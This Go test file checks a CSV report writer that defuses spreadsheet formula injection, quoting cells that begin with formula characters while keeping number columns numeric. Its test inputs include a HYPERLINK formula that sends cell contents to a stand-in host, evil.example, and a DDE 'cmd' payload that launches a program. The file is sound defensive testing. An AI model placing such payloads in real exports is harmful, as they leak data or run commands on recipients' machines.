package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/crmlink/crmlink"
	"github.com/shopspring/decimal"
)

// TestCSVWriterCells: each cell as written, and as a CSV reader reads it
// back, in a text column and in a number column.
func TestCSVWriterCells(t *testing.T) {
	for _, tc := range []struct {
		cell       string
		text, back string // raw text-column output and the value read back
		number     string // raw number-column output ("" when as text)
	}{
		{`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
			`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`, `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`, ""},
		{"=1+1", `"'=1+1"`, "'=1+1", ""},
		{"+79001234567", `"'+79001234567"`, "'+79001234567", ""},
		{"-12.5", `"'-12.5"`, "'-12.5", "-12.5"},
		{"-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`, "'-2+3+cmd|' /C calc'!A0", ""},
		{"@SUM(A1:A9)", `"'@SUM(A1:A9)"`, "'@SUM(A1:A9)", ""},
		{"\t=1+1", "\"'\t=1+1\"", "'\t=1+1", ""},
		{"\r=1+1", "\"'\r=1+1\"", "'\r=1+1", ""},
		{"  =1+1", `"'  =1+1"`, "'  =1+1", ""},
		// Already quoted text is not quoted twice.
		{"'=1+1", `"'=1+1"`, "'=1+1", ""},
		{`"=1+1"`, `"""=1+1"""`, `"=1+1"`, ""},
		// Separators of other dialects are quoted, so no cell starts
		// inside this one.
		{"a;=1+1", `"a;=1+1"`, "a;=1+1", ""},
		{"a,b", `"a,b"`, "a,b", ""},
		{"Search engine traffic", "Search engine traffic", "Search engine traffic", ""},
		{"Яндекс", "Яндекс", "Яндекс", ""},
		{"", "", "", ""},
		{"0", "0", "0", "0"},
		{"1234.5", "1234.5", "1234.5", "1234.5"},
		{"-0.25", `"'-0.25"`, "'-0.25", "-0.25"},
		{"-1e5", `"'-1e5"`, "'-1e5", ""},
		{"1.", "1.", "1.", ""},
	} {
		var buf bytes.Buffer
		w := NewCSVWriter(&buf)
		w.NumberColumns(1)
		if err := w.WriteAll([][]string{{tc.cell, tc.cell}}); err != nil {
			t.Fatal(err)
		}
		number := tc.number
		if number == "" {
			number = tc.text
		}
		if want := tc.text + "," + number + "\n"; buf.String() != want {
			t.Errorf("%q: wrote %q, want %q", tc.cell, buf.String(), want)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil || len(recs) != 1 || len(recs[0]) != 2 {
			t.Errorf("%q: read back %q, %v", tc.cell, recs, err)
			continue
		}
		wantNumber := tc.number
		if wantNumber == "" {
			wantNumber = tc.back
		}
		if recs[0][0] != tc.back || recs[0][1] != wantNumber {
			t.Errorf("%q: read back %q, want [%q %q]", tc.cell, recs[0], tc.back, wantNumber)
		}
	}
}

// TestWriteCSVNeutral: a report's dimension names are neutralised, its
// metrics, negative ones included, stay numbers.
func TestWriteCSVNeutral(t *testing.T) {
	res := &crmlink.ReportResult{
		Query: crmlink.ReportQuery{
			Dimensions: []crmlink.Dimension{{Name: "ym:s:lastUTMSource"}},
			Metrics:    []crmlink.Metric{{Name: "ym:s:visits"}, {Name: "ym:s:cdpOrders<currency>Profit"}},
		},
		Rows: []crmlink.ReportRow{
			{Dimensions: []crmlink.DimensionValue{{ID: "=cmd", Name: `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`}},
				Metrics: []decimal.Decimal{decimal.NewFromInt(3), decimal.RequireFromString("-12.5")}},
			{Dimensions: []crmlink.DimensionValue{{ID: "-5", Name: "-5"}},
				Metrics: []decimal.Decimal{decimal.NewFromInt(1), decimal.RequireFromString("40")}},
		},
		TotalRows: 2,
		Totals:    []decimal.Decimal{decimal.NewFromInt(4), decimal.RequireFromString("27.5")},
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, res); err != nil {
		t.Fatal(err)
	}
	want := "ym:s:lastUTMSource,ym:s:visits,ym:s:cdpOrders<currency>Profit\n" +
		"Total and averages,4,27.5\n" +
		`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",3,-12.5` + "\n" +
		`"'-5",1,40` + "\n"
	if buf.String() != want {
		t.Errorf("wrote\n%s\nwant\n%s", buf.String(), want)
	}
	if strings.Contains(buf.String(), ",'") {
		t.Error("a number was neutralised")
	}
}
